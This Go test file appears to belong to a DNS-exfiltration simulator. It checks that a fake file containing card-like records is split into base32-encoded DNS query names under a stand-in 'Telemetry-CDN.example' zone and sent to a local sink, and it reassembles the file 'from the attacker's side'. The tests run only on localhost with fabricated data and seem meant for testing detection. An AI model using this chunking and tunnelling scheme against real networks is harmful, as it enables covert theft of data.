package exfilsim

import (
	"bytes"
	"context"
	"net"
	"net/netip"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// sink is a DNS server that records every name and answers NOERROR, or
// NXDOMAIN with an EDE once blockAfter queries were seen.
type sink struct {
	mu         sync.Mutex
	names      []string
	sources    map[string]bool
	blockAfter int
}

func (s *sink) ServeDNS(w dns.ResponseWriter, r *dns.Msg) {
	s.mu.Lock()
	s.names = append(s.names, r.Question[0].Name)
	s.sources[w.RemoteAddr().(*net.UDPAddr).IP.String()] = true
	n := len(s.names)
	s.mu.Unlock()
	m := new(dns.Msg)
	m.SetReply(r)
	if s.blockAfter > 0 && n > s.blockAfter {
		m.Rcode = dns.RcodeNameError
		m.SetEdns0(1232, false)
		opt := m.IsEdns0()
		opt.Option = append(opt.Option, &dns.EDNS0_EDE{InfoCode: dns.ExtendedErrorCodeBlocked, ExtraText: "quarantined by test"})
	}
	_ = w.WriteMsg(m)
}

func serve(t *testing.T, h dns.Handler) string {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	started := make(chan struct{})
	srv := &dns.Server{PacketConn: pc, Handler: h, NotifyStartedFunc: func() { close(started) }}
	go func() { _ = srv.ActivateAndServe() }()
	<-started
	t.Cleanup(func() { _ = srv.Shutdown() })
	return pc.LocalAddr().String()
}

func TestRunLeaksWholeFileFromSource(t *testing.T) {
	t.Parallel()
	s := &sink{sources: map[string]bool{}, blockAfter: 40}
	addr := serve(t, s)
	data := FakeSecret(3000)
	res, err := Run(context.Background(), Config{
		Server: addr, Source: netip.MustParseAddr("127.0.0.13"), Zone: "Telemetry-CDN.example",
		Data: data, Session: "abc123", Timeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Sent != 100 || res.Answered != 40 || res.Blocked != 60 || res.FirstBlocked != 41 || res.Failed != 0 || res.Bytes != 3000 {
		t.Errorf("result %+v", res)
	}
	if res.BlockedReason != "quarantined by test" {
		t.Errorf("blocked reason %q", res.BlockedReason)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.sources) != 1 || !s.sources["127.0.0.13"] {
		t.Errorf("sources %v, want only 127.0.0.13", s.sources)
	}
	// The attacker's side: reassemble the file from the names.
	type chunk struct {
		seq  int
		data []byte
	}
	var chunks []chunk
	for _, n := range s.names {
		labels := dns.SplitDomainName(n)
		if len(labels) != 5 || labels[2] != "abc123" || labels[3] != "telemetry-cdn" {
			t.Fatalf("name %q has the wrong shape", n)
		}
		seq, err := strconv.Atoi(labels[1])
		if err != nil {
			t.Fatal(err)
		}
		b, err := encoding.DecodeString(labels[0])
		if err != nil {
			t.Fatal(err)
		}
		chunks = append(chunks, chunk{seq, b})
	}
	sort.Slice(chunks, func(i, j int) bool { return chunks[i].seq < chunks[j].seq })
	var got []byte
	for _, c := range chunks {
		got = append(got, c.data...)
	}
	if !bytes.Equal(got, data) {
		t.Error("reassembled data differs from the file")
	}
}

func TestNamesValidation(t *testing.T) {
	t.Parallel()
	if _, err := Names(Config{Zone: "x.example", Data: []byte("a"), ChunkBytes: 40}); err == nil || !strings.Contains(err.Error(), "63-character") {
		t.Errorf("err = %v", err)
	}
	if _, err := Names(Config{Zone: "x.example"}); err == nil {
		t.Error("no error without data")
	}
	long := strings.Repeat("a", 62) + "." + strings.Repeat("b", 62) + "." + strings.Repeat("c", 62) + "." + strings.Repeat("d", 40) + ".example"
	if _, err := Names(Config{Zone: long, Data: []byte("secret")}); err == nil {
		t.Error("no error for a name over 253 characters")
	}
	names, err := Names(Config{Zone: "x.example", Data: []byte("hello world"), ChunkBytes: 5, Session: "s1"})
	if err != nil {
		t.Fatal(err)
	}
	want := "nbswy3dp.0.s1.x.example. eb3w64tm.1.s1.x.example. mq.2.s1.x.example."
	if got := strings.Join(names, " "); got != want {
		t.Errorf("names %q, want %q", got, want)
	}
}

func TestFakeSecret(t *testing.T) {
	t.Parallel()
	b := FakeSecret(500)
	if len(b) != 500 || !bytes.HasPrefix(b, []byte("id,name,email,card,expiry\n")) {
		t.Errorf("FakeSecret(500) = %d bytes: %q", len(b), b[:40])
	}
}
